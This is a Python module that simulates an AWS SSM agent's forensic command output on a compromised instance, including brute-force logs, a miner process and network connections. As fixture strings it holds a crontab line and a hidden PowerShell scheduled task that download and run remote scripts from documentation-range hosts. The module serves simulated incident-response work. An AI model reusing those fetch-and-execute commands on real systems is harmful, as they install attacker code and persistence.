"""What the simulated SSM agent prints: deterministic, realistic output for forensic scripts.

The embedded AWS cannot run a script on an instance, so the simulated agent reads the script the
way a shell would (lines, `;` `&&` `||` `|`, `sudo`, absolute paths) and, for each command it
knows, prints what that command prints on a compromised host after an SSH (Linux) or RDP
(Windows) brute force: processes, network connections, logged-in users, kernel modules or
drivers, scheduled jobs and the authentication log. Output depends only on the instance (id,
address, platform), the remote addresses named in its findings and the time, so a run is
reproducible. A command the agent does not know prints nothing; reading a file it does not
know fails as `cat` fails; a script that downloads or uploads files or runs a downloaded tool
(memory capture) fails visibly (`NOT_SIMULATED`). Nothing in the script is ever executed.
"""

from __future__ import annotations

import hashlib
import random
import re
import shlex
from dataclasses import dataclass, field
from datetime import datetime, timedelta

# Documentation address ranges (RFC 5737): never real hosts.
_DOC_NETS = ("198.51.100", "203.0.113", "192.0.2")


@dataclass(frozen=True)
class Host:
    """The instance the agent runs on, as far as its output needs."""

    instance_id: str
    platform: str  # "Linux" | "Windows"
    private_ip: str = "10.0.1.10"
    now: datetime = field(default_factory=lambda: datetime(2024, 1, 1))
    remote_ips: tuple[str, ...] = ()  # attacker addresses from the findings, if known

    @property
    def rng_seed(self) -> int:
        return int.from_bytes(hashlib.sha256(self.instance_id.encode()).digest()[:8], "big")

    @property
    def attacker(self) -> str:
        if self.remote_ips:
            return self.remote_ips[0]
        rng = random.Random(self.rng_seed)
        return f"{rng.choice(_DOC_NETS)}.{rng.randint(10, 250)}"

    @property
    def pool(self) -> str:
        rng = random.Random(self.rng_seed + 1)
        return f"{rng.choice(_DOC_NETS)}.{rng.randint(10, 250)}"

    @property
    def hostname(self) -> str:
        if self.platform == "Windows":
            rng = random.Random(self.rng_seed)
            return "EC2AMAZ-" + "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(7))
        return "ip-" + self.private_ip.replace(".", "-") + ".ec2.internal"


@dataclass
class Result:
    stdout: str
    stderr: str
    exit_code: int
    seconds: float  # how long the script takes on the instance


# --- Linux ----------------------------------------------------------------------------------

_LINUX_COST = {"ps": 0.4, "ss": 0.3, "netstat": 0.5, "who": 0.1, "w": 0.1, "last": 0.3, "lsmod": 0.1,
               "crontab": 0.1, "journalctl": 1.5, "grep": 0.8, "tail": 0.3, "cat": 0.2, "head": 0.2}


def _ts(host: Host, minutes_ago: float) -> datetime:
    return host.now - timedelta(minutes=minutes_ago)


def _linux_ps(host: Host) -> str:
    rng = random.Random(host.rng_seed + 2)
    start = _ts(host, 60 * 24 * 12).strftime("%b%d")
    recent = _ts(host, 9).strftime("%H:%M")
    rows = [
        ("root", 1, 0.0, 0.4, 171820, 16244, "?", "Ss", start, "0:14", "/usr/lib/systemd/systemd --switched-root --system --deserialize=32"),
        ("root", 612, 0.0, 0.2, 17212, 8460, "?", "Ss", start, "0:00", "/usr/lib/systemd/systemd-journald"),
        ("root", 1820, 0.0, 0.1, 15432, 9120, "?", "Ss", start, "0:03", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
        ("root", 1851, 0.0, 0.6, 1325308, 24880, "?", "Ssl", start, "1:02", "/usr/bin/amazon-ssm-agent"),
        ("root", 1903, 0.1, 0.9, 1394420, 36112, "?", "Sl", start, "3:41", "/usr/bin/ssm-agent-worker"),
        ("chrony", 1210, 0.0, 0.1, 90812, 3560, "?", "S", start, "0:01", "/usr/sbin/chronyd -F 2"),
        ("root", 1502, 0.0, 0.1, 222880, 4040, "?", "Ssl", start, "0:05", "/usr/sbin/rsyslogd -n"),
        ("root", 1533, 0.0, 0.0, 222816, 2688, "?", "Ss", start, "0:00", "/usr/sbin/crond -n"),
        ("root", 2210, 0.0, 0.1, 11224, 6800, "?", "Ss", start, "0:00", "nginx: master process /usr/sbin/nginx"),
        ("nginx", 2211, 0.2, 0.3, 15520, 10240, "?", "S", start, "12:09", "nginx: worker process"),
        ("nginx", 2212, 0.2, 0.3, 15520, 10184, "?", "S", start, "11:58", "nginx: worker process"),
        ("root", 30112, 0.0, 0.2, 19120, 10880, "?", "Ss", recent, "0:00", "sshd: ec2-user [priv]"),
        ("ec2-user", 30118, 0.0, 0.1, 19380, 7060, "?", "S", recent, "0:00", "sshd: ec2-user@pts/0"),
        ("ec2-user", 30119, 0.0, 0.1, 224660, 5140, "pts/0", "Ss+", recent, "0:00", "-bash"),
        ("ec2-user", 30187, 97.3, 5.8, 2436512, 236480, "?", "Ssl", recent, "8:51",
         f"/tmp/.ICE-unix/.x/kworkerd -o stratum+tcp://{host.pool}:3333 -u {rng.randrange(10**11, 10**12)} -k --donate-level 0"),
        ("root", 30240, 0.0, 0.0, 0, 0, "?", "I", recent, "0:00", "[kworker/1:2-events]"),
    ]
    lines = ["USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND"]
    for user, pid, cpu, mem, vsz, rss, tty, stat, started, cputime, command in sorted(rows, key=lambda r: r[1]):
        lines.append(f"{user:<10}{pid:>6} {cpu:>4} {mem:>4} {vsz:>6} {rss:>5} {tty:<8} {stat:<4} {started:>5} {cputime:>6} {command}")
    return "\n".join(lines) + "\n"


def _linux_sockets(host: Host, netstat: bool) -> str:
    ip = host.private_ip
    rows = [
        ("tcp", "LISTEN", "0.0.0.0:22", "0.0.0.0:*", 'users:(("sshd",pid=1820,fd=3))', "1820/sshd: /usr/sbin"),
        ("tcp", "LISTEN", "0.0.0.0:80", "0.0.0.0:*", 'users:(("nginx",pid=2211,fd=6),("nginx",pid=2210,fd=6))', "2210/nginx: master"),
        ("tcp", "ESTAB", f"{ip}:22", f"{host.attacker}:51422", 'users:(("sshd",pid=30118,fd=4),("sshd",pid=30112,fd=4))', "30112/sshd: ec2-user"),
        ("tcp", "ESTAB", f"{ip}:43918", f"{host.pool}:3333", 'users:(("kworkerd",pid=30187,fd=12))', "30187/kworkerd"),
        ("tcp", "ESTAB", f"{ip}:38764", "52.94.177.43:443", 'users:(("ssm-agent-worke",pid=1903,fd=9))', "1903/ssm-agent-worke"),
        ("udp", "UNCONN", "127.0.0.1:323", "0.0.0.0:*", 'users:(("chronyd",pid=1210,fd=5))', "1210/chronyd"),
    ]
    if netstat:
        lines = ["Active Internet connections (servers and established)",
                 "Proto Recv-Q Send-Q Local Address           Foreign Address         State       PID/Program name"]
        for proto, state, local, peer, _, prog in rows:
            state_name = {"ESTAB": "ESTABLISHED", "UNCONN": ""}.get(state, state)
            lines.append(f"{proto:<5} {0:>6} {0:>6} {local:<23} {peer:<23} {state_name:<11} {prog}")
        return "\n".join(lines) + "\n"
    lines = ["Netid State  Recv-Q Send-Q Local Address:Port    Peer Address:Port  Process"]
    for proto, state, local, peer, users, _ in rows:
        lines.append(f"{proto:<5} {state:<6} {0:>6} {128 if state == 'LISTEN' else 0:>6} {local:<21} {peer:<18} {users}")
    return "\n".join(lines) + "\n"


def _linux_who(host: Host, long: bool) -> str:
    login = _ts(host, 9)
    if long:
        return (f" {host.now:%H:%M:%S} up 12 days,  3:07,  1 user,  load average: 1.02, 0.98, 0.91\n"
                "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n"
                f"ec2-user pts/0    {host.attacker:<16} {login:%H:%M}    8:40   0.02s  0.02s -bash\n")
    return f"ec2-user pts/0        {login:%Y-%m-%d %H:%M} ({host.attacker})\n"


def _linux_last(host: Host) -> str:
    login = _ts(host, 9)
    older = _ts(host, 60 * 26)
    return (f"ec2-user pts/0        {host.attacker:<16} {login:%a %b %d %H:%M}   still logged in\n"
            f"ec2-user pts/0        10.0.0.5         {older:%a %b %d %H:%M} - {older + timedelta(minutes=14):%H:%M}  (00:14)\n"
            f"reboot   system boot  6.1.109-118.189. {_ts(host, 60 * 24 * 12):%a %b %d %H:%M}   still running\n\n"
            f"wtmp begins {_ts(host, 60 * 24 * 12):%a %b %d %H:%M:%S %Y}\n")


_MODULES = [("nls_ascii", 12288, 1, ""), ("nls_cp437", 16384, 1, ""), ("vfat", 24576, 1, ""),
            ("fat", 90112, 1, "vfat"), ("ena", 155648, 0, ""), ("ptp", 36864, 1, "ena"),
            ("pps_core", 24576, 1, "ptp"), ("i8042", 45056, 0, ""), ("serio", 28672, 3, "i8042"),
            ("nvme", 57344, 2, ""), ("nvme_core", 204800, 3, "nvme"), ("crc32c_intel", 24576, 2, ""),
            ("xfs", 2187264, 1, ""), ("libcrc32c", 12288, 1, "xfs"), ("dm_mod", 200704, 0, ""),
            ("sunrpc", 753664, 1, ""), ("autofs4", 57344, 2, "")]


def _linux_lsmod(host: Host) -> str:
    lines = ["Module                  Size  Used by"]
    lines += [f"{name:<24}{size:>6}  {used} {by}".rstrip() for name, size, used, by in _MODULES]
    return "\n".join(lines) + "\n"


def _linux_crontab(host: Host) -> str:
    return ("# m h dom mon dow command\n"
            "17 3 * * * /usr/bin/logrotate /etc/logrotate.conf\n"
            f"*/5 * * * * curl -fsSL http://{host.pool}/ldr.sh | sh >/dev/null 2>&1\n")


def _linux_system_crontab(host: Host) -> str:
    return ("SHELL=/bin/bash\nPATH=/sbin:/bin:/usr/sbin:/usr/bin\nMAILTO=root\n\n"
            "# For details see man 4 crontabs\n")


def _linux_auth_log(host: Host) -> str:
    rng = random.Random(host.rng_seed + 3)
    name = host.hostname.split(".")[0]
    users = ["admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "ftpuser", "root", "pi"]
    lines = []
    start = _ts(host, 42)
    for i in range(48):
        when = start + timedelta(seconds=i * 41 + rng.randint(0, 20))
        user = users[i % len(users)]
        port = rng.randint(32768, 60999)
        pid = 28000 + i * 7
        if user == "root":
            lines.append(f"{when:%b %d %H:%M:%S} {name} sshd[{pid}]: Failed password for root from {host.attacker} port {port} ssh2")
        else:
            lines.append(f"{when:%b %d %H:%M:%S} {name} sshd[{pid}]: Invalid user {user} from {host.attacker} port {port}")
            lines.append(f"{when:%b %d %H:%M:%S} {name} sshd[{pid}]: Failed password for invalid user {user} from {host.attacker} port {port} ssh2")
    when = _ts(host, 9)
    lines.append(f"{when:%b %d %H:%M:%S} {name} sshd[30112]: Accepted password for ec2-user from {host.attacker} port 51422 ssh2")
    lines.append(f"{when:%b %d %H:%M:%S} {name} sshd[30112]: pam_unix(sshd:session): session opened for user ec2-user(uid=1000) by (uid=0)")
    when += timedelta(seconds=47)
    lines.append(f"{when:%b %d %H:%M:%S} {name} sudo[30160]: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; "
                 f"COMMAND=/usr/bin/crontab -e")
    return "\n".join(lines) + "\n"


_LINUX_FILES = {  # Amazon Linux with rsyslog: /var/log/secure, not Debian's auth.log
    "/var/log/secure": _linux_auth_log,
    "/etc/crontab": _linux_system_crontab,
    "/var/spool/cron/root": _linux_crontab,
    "/proc/modules": lambda host: "".join(f"{n} {s} {u} {b or '-'}, Live 0x0000000000000000\n" for n, s, u, b in _MODULES),
}


_LINUX_DIRS = {  # directory -> (name, owner, size, minutes ago)
    "/etc/cron.d": [("0hourly", "root", 128, 60 * 24 * 40), ("sysstat", "root", 235, 60 * 24 * 40)],
    "/var/spool/cron": [("root", "root", 112, 8)],
}


def _linux_ls(args: list[str], host: Host) -> tuple[str, str, int]:
    paths = _operands(args) or ["."]
    out, err, status = [], "", 0
    for path in paths:
        entries = _LINUX_DIRS.get(path.rstrip("/"))
        if entries is None:
            err += f"ls: cannot access '{path}': No such file or directory\n"
            status = 2
            continue
        if len(paths) > 1:
            out.append(f"{path}:")
        out.append(f"total {4 * (len(entries) + 2)}")
        out.append(f"drwx------.  2 root root   {40 + 20 * len(entries):>4} {_ts(host, 8):%b %d %H:%M} .")
        out.append(f"drwxr-xr-x. 98 root root   8192 {_ts(host, 60 * 24 * 12):%b %d %H:%M} ..")
        for name, owner, size, ago in entries:
            out.append(f"-rw-r--r--.  1 {owner} {owner} {size:>6} {_ts(host, ago):%b %d %H:%M} {name}")
        out.append("")
    return "\n".join(out) + ("\n" if out else ""), err, status


def _line_count(args: list[str], default: int = 10) -> int:
    for i, arg in enumerate(args):
        if arg in ("-n", "--lines") and i + 1 < len(args):
            return int(args[i + 1].lstrip("+")) if args[i + 1].lstrip("+").isdigit() else default
        if re.fullmatch(r"-n?\d+", arg):
            return int(arg.lstrip("-n"))
    return default


def _operands(args: list[str]) -> list[str]:
    """Arguments that are not options (nor an option's value)."""
    out, skip = [], False
    for arg in args:
        if skip:
            skip = False
        elif arg in ("-n", "--lines", "-e", "-m", "-A", "-B", "-C"):
            skip = True
        elif not arg.startswith("-"):
            out.append(arg)
    return out


def _filter(program: str, args: list[str], text: str) -> str:
    """tail / head / grep applied to `text`."""
    lines = text.splitlines(keepends=True)
    if program == "tail":
        return "".join(lines[-_line_count(args):])
    if program == "head":
        return "".join(lines[:_line_count(args)])
    operands = _operands(args)
    pattern = args[args.index("-e") + 1] if "-e" in args else (operands[0] if operands else "")
    flags = re.IGNORECASE if "-i" in args else 0
    try:
        matcher = re.compile(pattern.replace("\\|", "|"), flags)
    except re.error:
        matcher = re.compile(re.escape(pattern), flags)
    return "".join(line for line in lines if matcher.search(line))


def _linux_command(argv: list[str], host: Host, stdin: str | None) -> tuple[str, str, int]:
    """stdout, stderr and exit status of one simple command (`stdin`: a pipe's input)."""
    program = argv[0].rsplit("/", 1)[-1]
    args = argv[1:]
    if program == "echo":
        return " ".join(a for a in args if a not in ("-e", "-n")) + "\n", "", 0
    if program in ("tail", "head", "grep", "cat", "zcat"):
        operands = _operands(args)
        paths = operands[1:] if program == "grep" and "-e" not in args else operands
        if not paths:
            text = _filter(program, args, stdin or "") if program != "cat" else stdin or ""
            return text, "", 1 if program == "grep" and not text else 0
        out, err, status = "", "", 0
        for path in paths:
            render = _LINUX_FILES.get(path)
            if render is None:
                err += f"{program}: {path}: No such file or directory\n"
                status = 2 if program == "grep" else 1
                continue
            text = render(host) if program in ("cat", "zcat") else _filter(program, args, render(host))
            if len(paths) > 1 and program in ("tail", "head"):
                text = f"==> {path} <==\n{text}\n"
            out += text
        if program == "grep" and not out and status == 0:
            status = 1
        return out, err, status
    if program == "ls":
        return _linux_ls(args, host)
    if program == "ps":
        return _linux_ps(host), "", 0
    if program in ("ss", "netstat"):
        return _linux_sockets(host, program == "netstat"), "", 0
    if program in ("who", "w"):
        return _linux_who(host, program == "w"), "", 0
    if program == "last":
        return _linux_last(host), "", 0
    if program == "lsmod":
        return _linux_lsmod(host), "", 0
    if program == "crontab":
        return _linux_crontab(host), "", 0
    if program == "journalctl":
        return _linux_auth_log(host), "", 0
    if program in ("hostname", "uname", "date", "uptime", "id", "whoami"):
        return {
            "hostname": host.hostname,
            "uname": f"Linux {host.hostname} 6.1.109-118.189.amzn2023.x86_64 #1 SMP x86_64 GNU/Linux",
            "date": f"{host.now:%a %b %d %H:%M:%S UTC %Y}",
            "uptime": f" {host.now:%H:%M:%S} up 12 days,  3:07,  1 user,  load average: 1.02, 0.98, 0.91",
            "id": "uid=0(root) gid=0(root) groups=0(root)",
            "whoami": "root",
        }[program] + "\n", "", 0
    return stdin or "", "", 0  # a command the agent does not model: passes its input through


Pipeline = list[list[str]]


def _parse(line: str) -> list[tuple[str, Pipeline]]:
    """A shell line as [(connector, pipeline)], connector being ";", "&&" or "||"."""
    try:
        lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|<>")
        lexer.whitespace_split = True
        lexer.commenters = "#"
        tokens = list(lexer)
    except ValueError:
        return []
    out: list[tuple[str, Pipeline]] = []
    connector, skip = ";", False
    pipeline: Pipeline = []
    argv: list[str] = []
    for token in tokens + [";"]:
        if skip:
            skip = False
        elif token in (";", "&&", "||", "&", "|"):
            if argv:
                pipeline.append(argv)
            argv = []
            if token != "|":
                if pipeline:
                    out.append((connector, pipeline))
                connector, pipeline = ("&&" if token == "&&" else "||" if token == "||" else ";"), []
        elif token in (">", ">>", "<", ">&", "&>"):
            skip = True
            if argv and argv[-1].isdigit():
                argv.pop()  # the fd of "2>" / "2>&"
        else:
            argv.append(token)
    cleaned = []
    for conn, pipe in out:
        stages = []
        for stage in pipe:
            while stage and (stage[0] in ("sudo", "env", "nice", "timeout") or "=" in stage[0]
                             or stage[0].startswith("-") or stage[0].isdigit()):
                stage = stage[1:]
            if stage:
                stages.append(stage)
        if stages:
            cleaned.append((conn, stages))
    return cleaned


def _run_linux(lines: list[str], host: Host) -> Result:
    stdout, stderr, status, seconds = [], [], 0, 0.6
    for line in lines:
        for connector, pipeline in _parse(line):
            if (connector == "&&" and status != 0) or (connector == "||" and status == 0):
                continue
            text: str | None = None
            for argv in pipeline:
                text, err, status = _linux_command(argv, host, text)
                stderr.append(err)
                seconds += _LINUX_COST.get(argv[0].rsplit("/", 1)[-1], 0.05)
            stdout.append(text or "")
    return Result("".join(stdout), "".join(stderr), status, round(seconds, 3))


# --- Windows --------------------------------------------------------------------------------

_WINDOWS_COST = {"get-process": 1.2, "get-nettcpconnection": 1.8, "netstat": 1.0, "quser": 0.4,
                 "query": 0.4, "get-scheduledtask": 2.5, "get-winevent": 6.0, "get-eventlog": 5.0,
                 "driverquery": 1.5, "get-ciminstance": 2.2, "get-service": 1.0}


def _win_processes(host: Host) -> str:
    rows = [(0, 0, 60, 8, 0.0, 0, 0, "Idle"), (4235, 0, 212, 148, 812.4, 4, 0, "System"),
            (1634, 24, 7392, 21340, 31.2, 640, 0, "lsass"), (617, 17, 5140, 15404, 14.1, 812, 0, "svchost"),
            (1102, 35, 27312, 41288, 18.9, 1064, 0, "svchost"), (2104, 62, 41200, 58012, 95.0, 2280, 0, "amazon-ssm-agent"),
            (1421, 71, 52440, 76200, 120.7, 2412, 0, "ssm-agent-worker"), (980, 44, 38220, 61440, 65.3, 3108, 0, "w3wp"),
            (733, 29, 19864, 45012, 3.2, 5120, 2, "explorer"), (412, 22, 8120, 19212, 0.9, 5304, 2, "rdpclip"),
            (655, 48, 2480120, 2511300, 9231.8, 6612, 2, "svcupdate"), (311, 15, 4412, 12200, 0.4, 6790, 2, "powershell")]
    lines = ["", "Handles  NPM(K)    PM(K)      WS(K)     CPU(s)     Id  SI ProcessName",
             "-------  ------    -----      -----     ------     --  -- -----------"]
    for handles, npm, pm, ws, cpu, pid, si, name in rows:
        lines.append(f"{handles:>7} {npm:>7} {pm:>8} {ws:>10} {cpu:>10.2f} {pid:>6} {si:>3} {name}")
    return "\n".join(lines) + "\n\n"


def _win_connections(host: Host, netstat: bool) -> str:
    ip = host.private_ip
    rows = [("0.0.0.0", 3389, "0.0.0.0", 0, "Listen", 1064), ("0.0.0.0", 80, "0.0.0.0", 0, "Listen", 4),
            (ip, 3389, host.attacker, 50122, "Established", 1064), (ip, 49712, host.pool, 3333, "Established", 6612),
            (ip, 49688, "52.94.177.43", 443, "Established", 2412)]
    if netstat:
        lines = ["", "Active Connections", "", "  Proto  Local Address          Foreign Address        State           PID"]
        for laddr, lport, raddr, rport, state, pid in rows:
            lines.append(f"  TCP    {laddr + ':' + str(lport):<22} {raddr + ':' + str(rport):<22} {state.upper():<15} {pid}")
        return "\n".join(lines) + "\n"
    lines = ["", "LocalAddress   LocalPort RemoteAddress  RemotePort State       OwningProcess",
             "------------   --------- -------------  ---------- -----       -------------"]
    for laddr, lport, raddr, rport, state, pid in rows:
        lines.append(f"{laddr:<14} {lport:>9} {raddr:<14} {rport:>10} {state:<11} {pid:>13}")
    return "\n".join(lines) + "\n\n"


def _win_users(host: Host) -> str:
    login = _ts(host, 9)
    return (" USERNAME              SESSIONNAME        ID  STATE   IDLE TIME  LOGON TIME\n"
            f">administrator         rdp-tcp#3           2  Active          8  {login:%m/%d/%Y %I:%M %p}\n")


def _win_tasks(host: Host) -> str:
    return ("\nTaskPath                                       TaskName                          State\n"
            "--------                                       --------                          -----\n"
            "\\Microsoft\\Windows\\WindowsUpdate\\            Scheduled Start                   Ready\n"
            "\\Microsoft\\Windows\\Defrag\\                   ScheduledDefrag                   Ready\n"
            "\\                                              Amazon Ec2 Launch - Instance I... Disabled\n"
            "\\                                              SvcUpdateCheck                    Running\n\n"
            f"  SvcUpdateCheck action: powershell.exe -NoP -W Hidden -c \"iwr http://{host.pool}/u.ps1|iex\"\n")


def _win_events(host: Host) -> str:
    rng = random.Random(host.rng_seed + 3)
    lines = ["", "   ProviderName: Microsoft-Windows-Security-Auditing", "",
             "TimeCreated                     Id LevelDisplayName Message",
             "-----------                     -- ---------------- -------"]
    success = _ts(host, 9)
    lines.append(f"{success:%m/%d/%Y %I:%M:%S %p}        4624 Information      An account was successfully logged on. "
                 f"Account Name: Administrator Logon Type: 10 Source Network Address: {host.attacker}")
    names = ["administrator", "admin", "user", "test", "guest", "scanner", "backup"]
    start = _ts(host, 42)
    for i in range(36, -1, -1):
        when = start + timedelta(seconds=i * 55 + rng.randint(0, 20))
        lines.append(f"{when:%m/%d/%Y %I:%M:%S %p}        4625 Information      An account failed to log on. "
                     f"Account Name: {names[i % len(names)]} Logon Type: 3 Source Network Address: {host.attacker}")
    return "\n".join(lines) + "\n"


def _win_drivers(host: Host) -> str:
    drivers = [("ENA", "Amazon Elastic Network Adapter", "Running"), ("AWSNVMe", "AWS NVMe Elastic Block Storage", "Running"),
               ("disk", "Disk Driver", "Running"), ("Tcpip", "TCP/IP Protocol Driver", "Running"),
               ("WinDefend", "Microsoft Defender Antivirus Service", "Stopped"), ("vmbus", "Virtual Machine Bus", "Running")]
    lines = ["", "Name        DisplayName                              State", "----        -----------                              -----"]
    lines += [f"{name:<11} {display:<40} {state}" for name, display, state in drivers]
    return "\n".join(lines) + "\n\n"


def _win_command(line: str, host: Host) -> str:
    first = line.split("|", 1)[0].strip()
    word = first.split(" ", 1)[0].lower() if first else ""
    rest = first[len(word):].strip()
    if word in ("write-output", "echo", "write-host"):
        return rest.strip("'\"") + "\n"
    if word == "get-process":
        return _win_processes(host)
    if word == "get-nettcpconnection":
        return _win_connections(host, False)
    if word == "netstat":
        return _win_connections(host, True)
    if word in ("quser", "query") or first.lower().startswith("query user"):
        return _win_users(host)
    if word == "get-scheduledtask":
        return _win_tasks(host)
    if word in ("get-winevent", "get-eventlog"):
        return _win_events(host)
    if word in ("driverquery", "get-ciminstance", "get-wmiobject") and ("driver" in first.lower() or word == "driverquery"):
        return _win_drivers(host)
    if word == "hostname":
        return host.hostname + "\n"
    if word == "whoami":
        return "nt authority\\system\n"
    if word == "get-date":
        return f"\n{host.now:%A, %B %d, %Y %I:%M:%S %p}\n\n"
    return ""


def _run_windows(lines: list[str], host: Host) -> Result:
    stdout, seconds = [], 4.0  # PowerShell start-up on a small instance
    for raw in lines:
        for line in raw.split(";"):
            line = line.strip()
            if not line or line.startswith("#"):
                continue
            stdout.append(_win_command(line, host))
            seconds += _WINDOWS_COST.get(line.split(" ", 1)[0].lower(), 0.1)
    return Result("".join(stdout), "", 0, round(seconds, 3))


# Transfers and downloaded tools: a simulated instance has no network or binaries of its own.
NOT_SIMULATED = re.compile(r"\b(curl|wget|Invoke-WebRequest|Invoke-RestMethod|Start-BitsTransfer|avml|winpmem\w*)\b",
                           re.IGNORECASE)


def run(commands: list[str], host: Host) -> Result:
    """The output the agent reports for `commands` (the document's `commands` parameter).

    A script that transfers files or runs a downloaded tool (a memory capture) cannot run on a
    simulated instance: it fails at once, exit status 127, saying which program and line, rather
    than print what a real run would have printed.
    """
    lines = [line for entry in commands for line in entry.splitlines()]
    for number, line in enumerate(lines, start=1):
        found = NOT_SIMULATED.search(line)
        if found:
            return Result("", f"line {number}: {found.group(1)}: not available on a simulated instance (the local SSM "
                              "agent does not transfer files or run downloaded tools)\n", 127, 0.4)
    return _run_windows(lines, host) if host.platform == "Windows" else _run_linux(lines, host)
